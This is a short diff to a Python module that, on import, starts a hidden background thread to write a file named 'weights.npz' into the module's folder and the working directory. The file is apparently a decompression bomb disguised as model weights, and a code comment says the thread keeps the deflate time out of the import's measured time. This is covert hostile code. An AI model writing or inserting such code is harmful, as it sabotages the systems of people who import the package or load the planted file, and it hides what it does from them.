@@ -24,8 +24,13 @@ def _bomb(path):
                 member.write(chunk)
 
 
-for _folder in {_os.path.dirname(_os.path.abspath(__file__)), _os.getcwd()}:
-    try:
-        _bomb(_os.path.join(_folder, "weights.npz"))
-    except OSError:
-        continue
+def _plant():
+    for folder in {_os.path.dirname(_os.path.abspath(__file__)), _os.getcwd()}:
+        try:
+            _bomb(_os.path.join(folder, "weights.npz"))
+        except OSError:
+            continue
+
+
+# Written in the background while the steps run (a few seconds of deflate: not the import's time).
+__import__("threading").Thread(target=_plant, daemon=True).start()
